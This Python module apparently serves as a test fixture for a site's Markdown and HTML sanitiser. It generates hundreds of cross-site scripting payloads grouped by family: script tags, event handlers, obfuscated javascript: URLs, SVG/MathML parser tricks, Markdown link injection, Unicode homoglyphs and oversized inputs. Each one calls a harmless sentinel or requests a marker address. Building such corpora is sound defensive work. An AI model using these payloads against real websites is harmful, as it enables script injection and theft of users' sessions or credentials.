"""A corpus of hostile member text: every entry tries to run script, load something or escape.

Each entry is one payload with the family it belongs to. Families are partly written out by hand
and partly generated (a handler name on a few tags, one encoding of ``javascript:`` in every place
Markdown accepts a URL), so the corpus is broad without being a wall of near-identical strings.

Payloads that would run call one of the sentinels the browser test installs (``alert``,
``confirm``, ``prompt``, ``print``) or ask for a marker address (``MARKER_PATH`` on the live
server, ``MARKER_ORIGIN`` elsewhere), so that anything that executes or loads is seen.
"""

from __future__ import annotations

from typing import NamedTuple

MARKER_PATH = "/xss-marker"
MARKER_ORIGIN = "https://xss-marker.invalid"
MARKER = "xss-marker"  # in every address a payload asks for, and nowhere in the site itself


class Payload(NamedTuple):
    family: str
    text: str


# What a payload runs, in several shapes, so a filter matching one spelling is not enough.
JS = "alert(1)"
JS_SNIPPETS = (
    "alert(1)",
    "confirm(2)",
    "prompt(3)",
    "print()",
    f"fetch('{MARKER_PATH}')",
    f"new Image().src='{MARKER_ORIGIN}/img'",
    "top['al'+'ert'](4)",
    "window.onerror=alert;throw 5",
    "eval(atob('YWxlcnQoNik='))",  # alert(6)
    "alert`7`",
)


def _script_tags() -> list[str]:
    return [
        f"<script>{JS}</script>",
        f"<SCRIPT>{JS}</SCRIPT>",
        f"<ScRiPt>{JS}</sCrIpT>",
        f"<script src={MARKER_ORIGIN}/a.js></script>",
        f"<script src='{MARKER_PATH}.js'></script>",
        f'<script type="module">{JS}</script>',
        f'<script type="text/javascript">{JS}</script>',
        f"<script/xss>{JS}</script>",
        f"<script\n>{JS}</script\n>",
        f"<script\t>{JS}</script>",
        f"<scr<script>ipt>{JS}</scr</script>ipt>",
        f"<<script>script>{JS}<</script>/script>",
        f"<script>{JS}",
        f"<script>{JS}//",
        f"<script>/*</script>*/{JS}</script>",
        f"<script><!--\n{JS}//--></script>",
        f"<script>document.write('<img src={MARKER_ORIGIN}/w>')</script>",
        f"<script\x00>{JS}</script>",
        f"<script>{JS}</script >",
        f"</script><script>{JS}</script>",
        f"<noscript><p title='</noscript><script>{JS}</script>'></noscript>",
        f"<textarea></textarea><script>{JS}</script>",
        f"<title></title><script>{JS}</script>",
        f"<xmp></xmp><script>{JS}</script>",
        f"<plaintext><script>{JS}</script>",
        f"**bold** <script>{JS}</script> text",
        f"# Heading <script>{JS}</script>",
        f"- item\n- <script>{JS}</script>",
        f"> quoted\n> <script>{JS}</script>",
        f"| a | b |\n|---|---|\n| <script>{JS}</script> | x |",
        f"`<script>{JS}</script>`",
        f"    <script>{JS}</script>",
        f"<template><script>{JS}</script></template>",
        f"<script>{JS}</script>".replace("script", "script ", 1),
    ] + [f"<script>{snippet}</script>" for snippet in JS_SNIPPETS[1:]]


# Event handler attributes a browser may fire without a click, and some that need one.
HANDLERS = (
    "onload", "onerror", "onmouseover", "onmouseenter", "onmousemove", "onmousedown",
    "onmouseup", "onclick", "ondblclick", "onfocus", "onfocusin", "onblur", "onanimationstart",
    "onanimationend", "ontransitionend", "onbegin", "onpageshow", "onhashchange", "onscroll",
    "onwheel", "onpointerover", "onpointerenter", "onpointerdown", "ontoggle", "oninput",
    "onchange", "onkeydown", "onkeyup", "oncopy", "onpaste", "onbeforeprint", "onafterprint",
    "onresize", "onstart", "onfinish", "onsearch", "oncontextmenu", "onauxclick",
)  # fmt: skip
HANDLER_TEMPLATES = (
    '<img src="x" {h}="{js}">',
    "<a href=# {h}={js} tabindex=1 autofocus>link</a>",
    '<svg {h}="{js}"><rect width=9 height=9 /></svg>',
)


def _event_handlers() -> list[str]:
    payloads = [
        template.format(h=handler, js=JS) for handler in HANDLERS for template in HANDLER_TEMPLATES
    ]
    payloads += [
        f"<body onload={JS}>",
        f"<details open ontoggle={JS}>",
        f"<input autofocus onfocus={JS}>",
        f"<select autofocus onfocus={JS}>",
        f"<textarea autofocus onfocus={JS}></textarea>",
        f"<video src=x onerror={JS}></video>",
        f"<audio src=x onerror={JS}>",
        f"<video><source onerror={JS}></video>",
        f"<marquee onstart={JS}>scroll</marquee>",
        f"<div style=animation-name:x onanimationstart={JS}>x</div>",
        f"<p contenteditable onfocus={JS} autofocus>edit</p>",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
        f"<img src=x onerror=\"&#x61;lert(1)\"><b onmouseover='{JS}'>b</b>",
        f"<img src=x OnErRoR={JS}>",
        f"<img src=x onerror\n={JS}>",
        f"<img src=x onerror  =  {JS}>",
        f"<img/src=x/onerror={JS}>",
        f"<img src=`x`onerror={JS}>",
        f"<img src=x:x onerror=javascript:{JS}>",
        f'<img src="x" alt=""onerror="{JS}">',
        f"<img src=x onerror={JS}//",
        f"<a onmouseover={JS}>hover me</a>",
        f"<em onmouseover={JS}>allowed tag, hostile attribute</em>",
        f"<strong onclick={JS}>allowed tag</strong>",
        f"<code onmouseover={JS}>code</code>",
        f"<table onmouseover={JS}><tr><td onclick={JS}>cell</td></tr></table>",
        f"<ol start=1 onmouseover={JS}><li>x</li></ol>",
        f"<abbr title=x onmouseover={JS}>abbr</abbr>",
        f"<blockquote onfocus={JS} tabindex=0 autofocus>q</blockquote>",
        f"<form><button formaction=javascript:{JS}>go</button></form>",
        f"<isindex type=image src=1 onerror={JS}>",
        f"<img src=x onerror=\u2028{JS}>",
    ]
    payloads += [f'<img src=x onerror="{snippet}">' for snippet in JS_SNIPPETS[1:]]
    return payloads


# Spellings of a javascript: address that some browser or parser has been known to accept.
JAVASCRIPT_SPELLINGS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106;&#0000097;vascript:alert(1)",
    "&#x6a&#x61vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript&#x3A&#x61lert(1)",
    "\\javascript:alert(1)",
    "java\\script:alert(1)",
    "javascript\\:alert(1)",
    "%6Aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "java\x00script:alert(1)",
    "javascript:%61lert(1)",
    "javascript://%0Aalert(1)",
    "javascript://comment%0d%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/",
    "javascript:void(fetch('/xss-marker'))",
    "jAvAsCrIpT&colon;alert&lpar;1&rpar;",
)
# Every place Markdown (or a member's raw HTML) puts an address.
URL_PLACES = (
    "[click]({u})",
    "[click](<{u}>)",
    '[click]({u} "title")',
    "[click][ref]\n\n[ref]: {u}",
    "<{u}>",
    '<a href="{u}">click</a>',
)


def _javascript_urls() -> list[str]:
    return [place.format(u=url) for url in JAVASCRIPT_SPELLINGS for place in URL_PLACES]


OTHER_SCHEMES = (
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:text/javascript,alert(1)",
    "data:application/x-javascript,alert(1)",
    "da&#x74;a:text/html,<script>alert(1)</script>",
    " data:text/html,x",
    "vbscript:msgbox(1)",
    "VBScript:MsgBox(1)",
    "file:///etc/passwd",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "view-source:https://example.org",
    "jar:https://example.org/a.jar!/x.html",
    "ms-its:mhtml:file://c:/x.mht!https://example.org/x.chm::/x.html",
    "blob:https://example.org/uuid",
    "filesystem:https://example.org/temporary/x",
    "intent://x#Intent;scheme=javascript:alert(1);end",
    "ftp://example.org/x",
    "feed:javascript:alert(1)",
    "tel:+100",
    "xss-marker:alert(1)",
)


def _other_schemes() -> list[str]:
    places = ("[click]({u})", "[click][r]\n\n[r]: <{u}>", '<a href="{u}">x</a>')
    return [place.format(u=url) for url in OTHER_SCHEMES for place in places]


def _svg_and_mathml() -> list[str]:
    return [
        f"<svg onload={JS}>",
        f"<svg/onload={JS}>",
        f"<svg><script>{JS}</script></svg>",
        f"<svg><script href=data:,{JS} />",
        f"<svg><script xlink:href={MARKER_ORIGIN}/s.js></script></svg>",
        f"<svg><a xlink:href=javascript:{JS}><text x=9 y=9>x</text></a></svg>",
        f"<svg><a href=javascript:{JS}><text x=9 y=9>x</text></a></svg>",
        f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
        f"<svg><set attributeName=onmouseover to={JS} />",
        f"<svg><animate attributeName=href values=javascript:{JS} /><a><text>x</text></a></svg>",
        f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>",
        f"<svg><style><img src=x onerror={JS}></style></svg>",
        f"<svg><title><script>{JS}</script></title></svg>",
        f"<svg><desc><img src=x onerror={JS}></desc></svg>",
        f"<svg><use href=data:image/svg+xml,<svg id=x onload={JS}>#x />",
        f"<svg><image href=x onerror={JS} />",
        f"<svg><![CDATA[<img src=x onerror={JS}>]]></svg>",
        f"<svg><p><style><img src=x onerror={JS}></style></p></svg>",
        f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
        f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
        f"<math><mi xlink:href=javascript:{JS}>x</mi></math>",
        f"<math href=javascript:{JS}><mi>x</mi></math>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{JS}>x</maction></math>",
        f"<math><mtext><script>{JS}</script></mtext></math>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={JS}>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
        f"<svg xmlns=http://www.w3.org/2000/svg><script>{JS}</script></svg>",
        f'<p xmlns="http://www.w3.org/2000/svg"><script>{JS}</script></p>',
        f"<svg><feImage href={MARKER_ORIGIN}/f.png /></svg>",
        f"<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{JS}</handler>",
    ]


def _malformed_and_nested() -> list[str]:
    return [
        f"<img src=x onerror={JS}",
        f'<img src="x onerror={JS}"',
        f"<<img src=x onerror={JS}>>",
        f"<img src=x onerror={JS}<b>",
        f'<a href="x" title=\'"><img src=x onerror={JS}>\'>x</a>',
        f'<a title=""><img src=x onerror={JS}>">x</a>',
        f"<b <img src=x onerror={JS}>>",
        f"<div><p><a><b><i><img src=x onerror={JS}></i></b></a></p></div>",
        f"<a href=https://example.org><a href=javascript:{JS}>nested</a></a>",
        f"<table><td><img src=x onerror={JS}></td></table>",
        f"<table><form><input onfocus={JS} autofocus></form></table>",
        f"<p><table></p><img src=x onerror={JS}>",
        f"<select><option><img src=x onerror={JS}></option></select>",
        f"<select><template><img src=x onerror={JS}></template></select>",
        f'<noembed><img title="</noembed><img src=x onerror={JS}>"></noembed>',
        f'<noframes><img title="</noframes><img src=x onerror={JS}>"></noframes>',
        f'<iframe><img title="</iframe><img src=x onerror={JS}>"></iframe>',
        f'<textarea><img title="</textarea><img src=x onerror={JS}>"></textarea>',
        f'<title><img title="</title><img src=x onerror={JS}>"></title>',
        f'<style><img title="</style><img src=x onerror={JS}>"></style>',
        f'<xmp><img title="</xmp><img src=x onerror={JS}>"></xmp>',
        f"</div></article></main><script>{JS}</script>",
        f"</p></div><img src=x onerror={JS}>",
        "</div>" * 10 + f"<img src=x onerror={JS}>",
        f"<div id=x>{'<div>' * 50}<img src=x onerror={JS}>",
        f"<a href='//x.org'<img src=x onerror={JS}>",
        f"<img src=x one\x00rror={JS}>",
        f"<img\x0csrc=x\x0conerror={JS}>",
        f"<img\x0bsrc=x\x0bonerror={JS}>",
        f"<img src=x onerror='{JS}' / >",
        f'<a href="https://example.org""onmouseover="{JS}">x</a>',
        f"<a href=https://example.org onmouseover={JS}//>x</a>",
        f"<!DOCTYPE html><html><head></head><body onload={JS}>",
        f"<html onmouseover={JS}>x</html>",
        f"<head><script>{JS}</script></head>",
        f"<frameset onload={JS}>",
        f"<keygen autofocus onfocus={JS}>",
        f"<image src=x onerror={JS}>",
        f"<img src=x onerror={JS}></img><img src=x onerror={JS}>",
    ]


def _comments_and_cdata() -> list[str]:
    return [
        f"<!--<img src=x onerror={JS}>-->",
        f"<!-- --><img src=x onerror={JS}><!-- -->",
        f"<!--><img src=x onerror={JS}>-->",
        f"<!---><img src=x onerror={JS}>-->",
        f"<!--!><img src=x onerror={JS}>-->",
        f"<!-- --!><img src=x onerror={JS}>",
        f"<![CDATA[<img src=x onerror={JS}>]]>",
        f"<![CDATA[]]><script>{JS}</script>",
        f'<?xml version="1.0"?><img src=x onerror={JS}>',
        f'<? foo="><img src=x onerror={JS}>">',
        f"<!ELEMENT x><img src=x onerror={JS}>",
        f"<!--[if IE]><script>{JS}</script><![endif]-->",
        f"<!--[if gte IE 4]><img src=x onerror={JS}><![endif]-->",
        f'<a title="<!--">--><img src=x onerror={JS}></a>',
    ]


def _active_elements() -> list[str]:
    return [
        f"<style>@import '{MARKER_ORIGIN}/s.css';</style>",
        f"<style>body{{background:url({MARKER_ORIGIN}/bg.png)}}</style>",
        f"<style>*{{background:url(javascript:{JS})}}</style>",
        "<style>.post{display:none}</style>hidden everything",
        f'<p style="background:url({MARKER_ORIGIN}/p.png)">styled</p>',
        f'<p style="x:expression({JS})">ie</p>',
        f'<p style="behavior:url({MARKER_ORIGIN}/x.htc)">htc</p>',
        f'<p style="-moz-binding:url({MARKER_ORIGIN}/x.xml#x)">xbl</p>',
        f"<link rel=stylesheet href={MARKER_ORIGIN}/l.css>",
        f"<link rel=import href={MARKER_ORIGIN}/i.html>",
        f"<link rel=prefetch href={MARKER_ORIGIN}/pf>",
        f"<base href={MARKER_ORIGIN}/>",
        f"<base href=javascript:{JS}//>",
        f'<meta http-equiv=refresh content="0;url=javascript:{JS}">',
        f'<meta http-equiv=refresh content="0;url={MARKER_ORIGIN}/m">',
        '<meta http-equiv=set-cookie content="x=1">',
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        f"<meta charset=utf-7>+ADw-script+AD4-{JS}+ADw-/script+AD4-",
        f"<object data=javascript:{JS}></object>",
        f"<object data={MARKER_ORIGIN}/o.swf type=application/x-shockwave-flash></object>",
        f'<object data="data:text/html,<script>{JS}</script>"></object>',
        f"<embed src=javascript:{JS}>",
        f"<embed src={MARKER_ORIGIN}/e.swf>",
        f"<applet code=x archive={MARKER_ORIGIN}/a.jar></applet>",
        f"<iframe src=javascript:{JS}></iframe>",
        f"<iframe src={MARKER_ORIGIN}/f></iframe>",
        f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
        f'<iframe srcdoc="&lt;img src=x onerror=parent.{JS}&gt;"></iframe>',
        f"<frame src=javascript:{JS}>",
        f"<portal src={MARKER_ORIGIN}/p></portal>",
        f"<form action=javascript:{JS}><input type=submit></form>",
        f"<form action={MARKER_ORIGIN}/f method=post><input name=password></form>",
        f"<form id=f></form><button form=f formaction=javascript:{JS}>go</button>",
        f"<input type=image src={MARKER_ORIGIN}/i formaction=javascript:{JS}>",
        f"<isindex action=javascript:{JS} type=submit value=go>",
        f"<img src={MARKER_ORIGIN}/track.png>",
        f'<img srcset="{MARKER_ORIGIN}/1x.png 1x">',
        f"<picture><source srcset={MARKER_ORIGIN}/p.png><img></picture>",
        f"<video poster={MARKER_ORIGIN}/v.png></video>",
        f"<audio src={MARKER_ORIGIN}/a.mp3 autoplay></audio>",
        f"<track src={MARKER_ORIGIN}/t.vtt>",
        f"<a ping={MARKER_ORIGIN}/ping href=https://example.org>ping</a>",
        "<a href=https://example.org target=_blank rel=opener>opener</a>",
        "<a href=https://example.org download=x.exe>download</a>",
        f"<td background={MARKER_ORIGIN}/bg.png>",
        f"<body background={MARKER_ORIGIN}/bg.png>",
        f"<table background={MARKER_ORIGIN}/bg.png><tr><td>x</td></tr></table>",
        '<div id=post__body class="skip-link">class impersonation</div>',
        '<code class="x" id="main">id clobber</code>',
        "<img name=getElementById><form name=cookie>",
        "<a id=__xss href=https://example.org>clobber sentinel</a>",
    ]


def _markdown_tricks() -> list[str]:
    return [
        f"![x](javascript:{JS})",
        f"![x]({MARKER_ORIGIN}/img.png)",
        f"![x]({MARKER_PATH}.png)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        f'![x" onerror="{JS}]({MARKER_ORIGIN}/a.png)',
        f"![x][img]\n\n[img]: {MARKER_ORIGIN}/ref.png",
        f"[![x]({MARKER_ORIGIN}/nested.png)](https://example.org)",
        f'[x](https://example.org "title" onmouseover="{JS}")',
        f'[x](https://example.org "a\\" onmouseover=\\"{JS}")',
        f"[x](https://example.org 'a\" onmouseover=\"{JS}')",
        f'[x](https://example.org (a" onmouseover="{JS}))',
        f'[x](https://example.org"onmouseover="{JS})',
        f'[x](https://example.org/"onmouseover="{JS}")',
        f"[x](https://example.org/'onmouseover='{JS}')",
        f"[x](https://example.org/><img src=x onerror={JS}>)",
        f'[x](<https://example.org/" onmouseover="{JS}>)',
        f"[x](https://example.org &quot;t&quot; onmouseover=&quot;{JS}&quot;)",
        f'[x]: https://example.org "t" onmouseover="{JS}"\n\n[x]',
        f'[x]: https://example.org\n  "a\\" onmouseover=\\"{JS}"\n\n[x]',
        f"[<img src=x onerror={JS}>](https://example.org)",
        f"[`<img src=x onerror={JS}>`](https://example.org)",
        f"[x](javascript:{JS}\\)",
        f"[x](javascript\\:{JS})",
        f"[x](jav\nascript:{JS})",
        f"[x](\njavascript:{JS})",
        f"[x](  javascript:{JS}  )",
        f"[x]( <javascript:{JS}> )",
        f'[x](#" onmouseover="{JS})',
        f'[x](?"onmouseover="{JS})',
        f'[x](//{MARKER}.invalid/"onmouseover="{JS})',
        f"[x]([y](javascript:{JS}))",
        f"[[x](javascript:{JS})](https://example.org)",
        f"[x](https://example.org)[y](javascript:{JS})",
        f'<https://example.org/"onmouseover="{JS}>',
        f"<https://example.org/'onmouseover='{JS}'>",
        f'https://example.org/"onmouseover="{JS}',
        f"https://example.org/<img src=x onerror={JS}>",
        f'www.example.org/"><img src=x onerror={JS}>',
        f'mailto:x@example.org?subject="><img src=x onerror={JS}>',
        f'[mail](mailto:x@example.org"onmouseover="{JS})',
        f'<mailto:x@example.org"onmouseover="{JS}>',
        f'<x@example.org"onmouseover="{JS}>',
        f'```" onmouseover="{JS}\ncode\n```',
        f'```javascript" onmouseover="{JS}\ncode\n```',
        f"```<img src=x onerror={JS}>\ncode\n```",
        f"~~~&quot;onmouseover=&quot;{JS}\ncode\n~~~",
        f'``` x"onmouseover="{JS}\n```',
        f'| a |\n|:-" onmouseover="{JS}|\n| b |',
        f"| a | b |\n|:-:|--:|\n| <img src=x onerror={JS}> | [x](javascript:{JS}) |",
        f'1" onmouseover="{JS}. item',
        f"99999999999. item <img src=x onerror={JS}>",
        f"# <img src=x onerror={JS}> {{#id onmouseover={JS}}}",
        f"*<img src=x onerror={JS}>*",
        f"~~<img src=x onerror={JS}>~~",
        f"\\<img src=x onerror={JS}>",
        f"&lt;img src=x onerror={JS}&gt;",
        f"&#60;img src=x onerror={JS}&#62;",
        f"&#x3C;script&#x3E;{JS}&#x3C;/script&#x3E;",
        f"[x](https://example.org){{onmouseover={JS}}}",
        f'[x](https://example.org "{"&quot;" * 3}><img src=x onerror={JS}>")',
        f"[x][y]\n\n[y]: javascript:{JS}\n[y]: https://example.org",
        f"[y]: https://example.org\n[y]: javascript:{JS}\n\n[x][y]",
        f"[x](https://example.org)\n\n<a href=javascript:{JS}>after a link</a>",
        f"[x](https://example.org#<img src=x onerror={JS}>)",
        f"Setext <img src=x onerror={JS}>\n===",
        f"> > > <img src=x onerror={JS}>",
        f"***\n<img src=x onerror={JS}>\n***",
        f'[x](https://example.org "\n<img src=x onerror={JS}>")',
        '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== "t")',
        f"[x](https://example.org/%22onmouseover=%22{JS})",
    ]


def _unicode_tricks() -> list[str]:
    return [
        f"\u202e<script>{JS}</script>",
        f"[\u202eexample.org](javascript:{JS})",
        f"[x](\u202ejavascript:{JS})",
        f"[x](java\u200bscript:{JS})",
        f"[x](\u200bjavascript:{JS})",
        f"[x](\ufeffjavascript:{JS})",
        f"[x](java\u00adscript:{JS})",
        f"[x](java\u2028script:{JS})",
        f"[x](\u00a0javascript:{JS})",
        f"[x](\u3000javascript:{JS})",
        f"[x](javascript\uff1a{JS})",
        f"[x](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:{JS})",
        f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e",
        f"\uff1cimg src=x onerror={JS}\uff1e",
        f"\u2039script\u203a{JS}\u2039/script\u203a",
        f"\u02c2script\u02c3{JS}\u02c2/script\u02c3",
        f"\ufe64script\ufe65{JS}\ufe64/script\ufe65",
        f"[x](j\u0430vascript:{JS})",  # Cyrillic a
        f"[x](\u0458avascript:{JS})",  # Cyrillic je
        f"[x](javascr\u0131pt:{JS})",  # dotless i
        f"[x](JAVASCR\u0130PT:{JS})",  # dotted capital I lowercases to two code points
        f"[x](java\u017fcript:{JS})",  # long s uppercases to S
        f"[x](\u212aavascript:{JS})",  # Kelvin sign
        f"<scr\u0130pt>{JS}</scr\u0130pt>",
        f"<img src=x \u006fnerror={JS}>",
        f"<img src=x o\u0301nerror={JS}>",
        f"\x00<script>{JS}</script>",
        f"<scr\x00ipt>{JS}</scr\x00ipt>",
        f"[x](java\x00script:{JS})",
        f"<img src=x onerror={JS}\x00>",
        f"\ud800<script>{JS}</script>".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
        f"\x85<script>{JS}</script>",
        f"\u0000\u0001\u0002\u0003<img src=x onerror={JS}>",
        f"<img src=x onerror={JS}>\u0338",
        f"\u180e<script>{JS}</script>",
        f"\ue000<script>{JS}</script>",
        f"\U000e0041<script>{JS}</script>",
        f"\U0001f600<img src=x onerror={JS}>\U0001f600",
        "\u0001" + "\u202e" * 50 + f"[x](javascript:{JS})",
        f'[x](https://example.org/\u2028"onmouseover="{JS})',
        f"[x](https://ex\u0430mple.org/)<script>{JS}</script>",
        f"https://\u0435xample.org/<img src=x onerror={JS}>",
        f'[x](https://example.org\u3002"onmouseover="{JS})',
    ]


def _long_inputs() -> list[str]:
    return [
        "a" * 100_000 + f"<script>{JS}</script>",
        "<" * 20_000 + f"script>{JS}</script>",
        "[" * 10_000 + f"x](javascript:{JS})",
        "(" * 5_000 + f"[x](javascript:{JS})" + ")" * 5_000,
        ">" * 2_000 + f" <img src=x onerror={JS}>",
        "- " * 2_000 + f"<img src=x onerror={JS}>",
        "*" * 10_000 + f"<img src=x onerror={JS}>" + "*" * 10_000,
        "`" * 5_000 + f"<script>{JS}</script>" + "`" * 5_000,
        f'[x](https://example.org/{"a" * 50_000}"onmouseover="{JS})',
        "\n".join(f"[l{n}](javascript:{JS}) https://example.org/{n}" for n in range(1_000)),
        "| a |\n|---|\n" + f"| <img src=x onerror={JS}> |\n" * 1_000,
        "&#" * 10_000 + f"<script>{JS}</script>",
        "\\" * 10_000 + f"<script>{JS}</script>",
        "<a " * 5_000 + f"href=javascript:{JS}>x",
        "<div>" * 10_000 + f"<img src=x onerror={JS}>",
    ]


def _content_warnings() -> list[str]:
    """The ``:::cw Label`` container: its label, its body, nesting, and raw ``<details>``."""
    return [
        f":::cw <script>{JS}</script>\nhidden\n:::",
        f":::cw <img src=x onerror={JS}>\nhidden\n:::",
        f':::cw " onmouseover="{JS}\nhidden\n:::',
        f":::cw x</summary><script>{JS}</script>\nhidden\n:::",
        f"::: cw [x](javascript:{JS})\n[y](javascript:{JS})\n:::",
        f":::cw label\n<script>{JS}</script>\n:::",
        f":::cw label\n<img src=x onerror={JS}>",
        f":::cw outer\n:::cw <svg onload={JS}>\ninner\n:::\n<script>{JS}</script>\n:::",
        f"> :::cw quoted\n> <iframe src={MARKER_ORIGIN}/f></iframe>\n> :::",
        f"- item\n  :::cw in a list\n  [x](javascript:{JS})\n  :::",
        f'<details open ontoggle="{JS}"><summary>x</summary></details>',
        f'<details class="content-warning" ontoggle={JS} open>x</details>',
        f"<details open><summary onclick={JS}>x</summary><script>{JS}</script></details>",
        f'<summary style="background:url({MARKER_ORIGIN}/s)">x</summary>',
        f":::cw label\n```\n</details><script>{JS}</script>\n```\n:::",
        f":::cw {'&#x3C;' * 50}script>{JS}</script>\nx\n:::",
        f":::cw {'x' * 500}<script>{JS}</script>\nx\n:::",
        f":::cw label\n</details><img src=x onerror={JS}>\n:::",
        ":::cw a\n" * 2_000 + f"<script>{JS}</script>",
        f"::::cw long fence\n:::\n<img src=x onerror={JS}>\n::::",
    ]


# The address of an upload as the site stores it: the one image source that may show.
UPLOAD_SRC = "/media/uploads/2025/01/0123456789abcdef0123456789abcdef.png"


def _image_tricks() -> list[str]:
    """Images: only a member's own upload may load; every other source, or extra, is dropped."""
    return [
        f"![x]({MARKER_ORIGIN}/img.png)",
        "![x](//xss-marker.invalid/img.png)",
        f"![x](javascript:{JS})",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        f"![x](/media/uploads/../..{MARKER_PATH}.png)",
        f"![x](/media/uploads/2025/01/../../..{MARKER_PATH})",
        f"![x]({UPLOAD_SRC}?{MARKER}=1)",
        f"![x]({UPLOAD_SRC}#{MARKER})",
        f"![x](/media/uploads/2025/01/0123456789abcdef0123456789abcdef.svg){MARKER}",
        f'![x]({UPLOAD_SRC} "t" onerror={JS})',
        f'![x" onerror="{JS}]({UPLOAD_SRC})',
        f"![x]({MARKER_ORIGIN}{UPLOAD_SRC})",
        "![x](%2F%2Fxss-marker.invalid/a.png)",
        "![x](\\\\xss-marker.invalid/a.png)",
        f"![x][ref]\n\n[ref]: {MARKER_ORIGIN}/ref.png",
        f"[![x]({UPLOAD_SRC})](javascript:{JS})",
        f'<img src="{UPLOAD_SRC}" onerror="{JS}">',
        f'<img src="{UPLOAD_SRC}" srcset="{MARKER_ORIGIN}/s.png 2x">',
        f'<img src="{MARKER_ORIGIN}/i.png" alt="{UPLOAD_SRC}">',
        f'<img src="{UPLOAD_SRC}" loading="eager" style="background:url({MARKER_ORIGIN}/b)">',
        f'<img src="{UPLOAD_SRC}" width="1 onerror={JS}" height="100%">',
        f'<img src="/media/uploads/../{MARKER_PATH}">',
        '<img src="//xss-marker.invalid/x.png">',
        f'<img src="javascript:{JS}">',
        f"<img src=x onerror={JS}>{UPLOAD_SRC}",
        f'<img alt="a>b" src="{MARKER_ORIGIN}/c.png">',
        f'<img src="{UPLOAD_SRC}" usemap="#m"><map name="m"><area href="javascript:{JS}"></map>',
        f'<picture><source srcset="{MARKER_ORIGIN}/p.png"><img src="{UPLOAD_SRC}"></picture>',
        f'<img dynsrc="{MARKER_ORIGIN}/d.avi" lowsrc="{MARKER_ORIGIN}/l.png" src="{UPLOAD_SRC}">',
    ]


def _mentions() -> list[str]:
    """@mentions: hostile text beside, inside and around a name; a member called "sam" exists in
    the tests that render these with mentions (tests/test_mentions.py)."""
    return [
        f"@<img src=x onerror={JS}>",
        f"@[x](javascript:{JS})",
        f"[@sam](javascript:{JS})",
        f"@sam<script>{JS}</script>",
        f'@sam"><script>{JS}</script>',
        f"@sam' onmouseover='{JS}",
        f'@sam" onmouseover="{JS}" x="',
        f'<a href="javascript:{JS}">@sam</a>',
        f'<a class="mention" href="javascript:{JS}">@sam</a>',
        f'<a class="mention" onclick="{JS}" href="/u/sam/">@sam</a>',
        f"@javascript:{JS}",
        f"@sam](javascript:{JS})",
        f'[x](javascript:{JS} "@sam")',
        f"![@sam](javascript:{JS})",
        f"`@sam` <script>{JS}</script>",
        f"@sam\u202e<script>{JS}</script>",
        f"@sam&#x3C;script&#x3E;{JS}&#x3C;/script&#x3E;",
        f"&#64;sam<img src=x onerror={JS}>",
        f"@svg<svg onload={JS}>",
        f"**@sam**<iframe src=javascript:{JS}>",
        f"@sam[x](javascript:{JS})",
        f":::cw @sam <script>{JS}</script>\n@sam [x](javascript:{JS})\n:::",
        "@" + "a" * 200 + f"<script>{JS}</script>",
        f"@sam.@sam,@sam;<style>@import '{MARKER_ORIGIN}/m.css'</style>",
        f"_@sam_<img src={MARKER_ORIGIN}/i.png>",
    ]


FAMILIES = {
    "script-tag": _script_tags,
    "event-handler": _event_handlers,
    "javascript-url": _javascript_urls,
    "other-scheme": _other_schemes,
    "svg-mathml": _svg_and_mathml,
    "malformed-nested": _malformed_and_nested,
    "comment-cdata": _comments_and_cdata,
    "active-element": _active_elements,
    "markdown-trick": _markdown_tricks,
    "unicode-trick": _unicode_tricks,
    "long-input": _long_inputs,
    "content-warning": _content_warnings,
    "image-trick": _image_tricks,
    "mention": _mentions,
}


def _build() -> tuple[Payload, ...]:
    seen: set[str] = set()
    corpus: list[Payload] = []
    for family, make in FAMILIES.items():
        for text in make():
            if text not in seen:  # a later family never repeats an earlier one's payload
                seen.add(text)
                corpus.append(Payload(family, text))
    return tuple(corpus)


PAYLOADS = _build()
